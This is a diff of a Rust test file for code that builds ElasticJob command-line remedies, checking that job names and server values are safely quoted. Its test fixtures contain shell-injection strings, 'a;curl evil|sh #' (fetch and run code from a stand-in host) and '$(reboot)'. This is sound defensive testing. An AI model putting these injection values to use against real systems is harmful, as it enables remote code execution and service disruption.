@@ -11,7 +11,7 @@ fn me() -> InstanceId {
 }
 
 /// A job that could run at any time.
-async fn ready() -> Desk {
+pub(super) async fn ready() -> Desk {
     let desk = Desk::new();
     desk.write(&[
         ("/job/config", CONFIG),
@@ -34,7 +34,7 @@ async fn item(desk: &Desk) -> Vec<Reason> {
     findings.into_iter().map(|finding| finding.reason).collect()
 }
 
-fn record(state: &str) -> String {
+pub(super) fn record(state: &str) -> String {
     format!(r#"{{"through":5000,"last":{{"at":5000,"instance":"10.0.0.1@-@7","attempt":"2a-1","state":"{state}"}}}}"#)
 }
 
@@ -247,12 +247,19 @@ fn a_command_of_a_remedy_runs_nothing_of_a_name() {
     assert_eq!(command(Remedy::Trigger), "elasticjob trigger 'a;curl evil|sh #'");
     let server = Remedy::EnableServer("$(reboot)".to_owned());
     assert_eq!(command(server), "elasticjob enable --job 'a;curl evil|sh #' --server '$(reboot)'");
-    for remedy in [Remedy::CorrectConfiguration, Remedy::ChangeSchedule, Remedy::EnableServers, Remedy::EnableItem(0)] {
+    for remedy in [
+        Remedy::CorrectConfiguration,
+        Remedy::ChangeSchedule,
+        Remedy::EnableServers,
+        Remedy::EnableItem(0),
+        Remedy::CancelRun(0),
+    ] {
         let command = command(remedy);
         assert!(command.contains("'a;curl evil|sh #'"), "{command}");
     }
     let dashed = |remedy: Remedy| remedy.command(&JobName::new("--json").unwrap()).unwrap();
     assert_eq!(dashed(Remedy::Trigger), "elasticjob trigger -- --json", "it is no option");
+    assert_eq!(dashed(Remedy::CancelRun(0)), "elasticjob cancel --item 0 -- --json");
     assert_eq!(dashed(Remedy::EnableItem(0)), "elasticjob enable --job=--json --item 0");
 }
 
